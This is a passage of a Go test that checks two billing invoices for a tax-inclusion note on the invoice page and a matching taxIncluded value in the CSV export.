	for _, tt := range []struct {
		invoice, note, csv string
	}{
		{"INV-2026-11-AUD", "include tax", ",true,"}, // Wingtip Toys, Australia
		{"INV-2026-11-HUF", "exclude tax", ",false,"},
	} {
		d := doc(t, env.Get(t, c, "/billing/invoices/"+tt.invoice).Body)
		notes := testid(d, "invoice-tax-note")
		if notes.Length() == 0 || !strings.Contains(notes.First().Text(), tt.note) {
			t.Errorf("%s: tax note %q, want one saying prices %s", tt.invoice, notes.First().Text(), tt.note)
		}
		res := env.Get(t, c, "/billing/invoices/"+tt.invoice+"/csv")
		lines := strings.Split(strings.TrimSpace(res.Body), "\n")
		if !strings.Contains(lines[0], "taxIncluded") || len(lines) < 2 || !strings.Contains(lines[1], tt.csv) {
			t.Errorf("%s CSV: header %q, first line %q, want taxIncluded %s", tt.invoice, lines[0], lines[1], tt.csv)
		}
	}
}
